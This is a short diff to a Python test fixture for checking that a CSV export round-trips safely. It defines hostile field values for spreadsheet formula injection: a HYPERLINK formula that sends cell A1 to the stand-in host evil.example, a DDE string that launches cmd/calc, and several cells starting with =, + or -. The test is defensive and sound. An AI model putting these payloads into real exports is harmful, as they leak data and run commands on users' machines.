@@ -432,7 +432,7 @@ def test_csv_export_imports_again_unchanged(
 
 #: Issue 14, finding 4: what the provider export wrote back as it was.
 HOSTILE = {
-    "title": "Lassen; =HYPERLINK(\"http://evil.example/?\"&A1,\"Klik\")",
+    "title": 'Lassen; =HYPERLINK("http://evil.example/?"&A1,"Klik")',
     "description": "@SUM(1+1)*cmd|' /C calc'!A0 " + DESCRIPTION,
     "skills": ["+31 6 1234 5678", "-2+3", "'=al een aanhalingsteken", "Lassen"],
     "occupations": ["=1+1", "Lasser"],
